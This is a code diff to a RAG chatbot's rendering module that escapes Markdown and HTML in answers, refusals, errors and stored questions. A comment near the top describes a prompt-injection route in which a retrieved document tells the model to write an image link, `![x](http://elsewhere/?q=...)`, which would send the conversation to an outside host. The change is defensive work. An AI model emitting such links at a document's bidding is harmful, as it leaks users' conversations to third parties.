@@ -18,18 +18,36 @@ from rag.guard.verify import split_claims
 from rag.text import content_terms, sentence_spans
 
 
+# Characters that Markdown (which the Chatbot renders) or HTML would act on, written as numeric
+# entities so that they show as themselves: no message may draw an image, a link or markup, since
+# an answer is the model's text and a document can tell the model what to write
+# (`![x](http://elsewhere/?q=...)` would make the browser send the conversation away).
+_INERT = str.maketrans({c: f"&#{ord(c)};" for c in "!()[]*_`~|#:\\$"})
+
+
+def inert(text: str) -> str:
+    """`text` as HTML that shows it literally: escaped, and inert to Markdown (no image, link,
+    emphasis, heading, code or formula)."""
+    return escape(text, quote=False).translate(_INERT)  # (quote=True would write &#x27;, whose # the table takes)
+
+
 def answer_html(answer: Answer, turn: int) -> str:
-    """The chat bubble: text with [n] as clickable chips; refusals styled apart. Its class
-    "rag-turn-<turn>" names the answer, for a rating given to the bubble (answer_turn())."""
+    """The chat bubble: text with [n] as clickable chips (with the page for a PDF source);
+    refusals styled apart. Its class "rag-turn-<turn>" names the answer, for a rating given to
+    the bubble (answer_turn())."""
     if answer.refused:
-        return f'<div class="rag-refusal rag-turn-{turn}"><b>Not in the documents.</b> {escape(answer.text)}</div>'
+        return f'<div class="rag-refusal rag-turn-{turn}"><b>Not in the documents.</b> {inert(answer.text)}</div>'
+    pages = {c.number: c.page for c in answer.citations if c.page is not None}
 
-    def chip(m: re.Match) -> str:
-        n = m.group(1)
-        return f'<button class="cite-chip cite-t{turn}-n{n}" title="show source {n}">{n}</button>'
+    def chip(n: str) -> str:
+        page = pages.get(int(n))
+        label = f'{n}<span class="chip-page"> · p.{page}</span>' if page is not None else n
+        where = f", page {page}" if page is not None else ""
+        return f'<button class="cite-chip cite-t{turn}-n{n}" title="show source {n}{where}">{label}</button>'
 
-    body = re.sub(r"\s?\[(\d{1,3})\]", lambda m: " " + chip(m), escape(answer.text))
-    extra = f'<div class="rag-note">{escape(answer.notice)}</div>' if "instead" in answer.notice else ""
+    parts = re.split(r"\s?\[(\d{1,3})\]", answer.text)  # text, number, text, number, ...
+    body = "".join(inert(part) if i % 2 == 0 else " " + chip(part) for i, part in enumerate(parts))
+    extra = f'<div class="rag-note">{inert(answer.notice)}</div>' if "instead" in answer.notice else ""
     if answer.unsupported:
         extra += f'<div class="rag-note">{len(answer.unsupported)} unsupported sentence(s) removed — see the evidence panel</div>'
     return f'<div class="rag-answer rag-turn-{turn}">{body}</div>{extra}'
@@ -44,7 +62,7 @@ def answer_turn(message) -> int | None:
 
 
 def error_html(message: str) -> str:
-    return f'<div class="rag-error"><b>⚠ Error:</b> {escape(message)}</div>'
+    return f'<div class="rag-error"><b>⚠ Error:</b> {inert(message)}</div>'
 
 
 def banner_markdown(settings, answerer_label: str | None = None) -> str:
@@ -165,7 +183,7 @@ def stored_messages(turns) -> list[dict]:
     answer drawn as the window draws a finished one (chips numbered by turn)."""
     messages = []
     for turn, (question, answer) in enumerate(turns):
-        messages += [{"role": "user", "content": escape(question)},
+        messages += [{"role": "user", "content": inert(question)},
                      {"role": "assistant", "content": answer_html(answer, turn)}]
     return messages
 
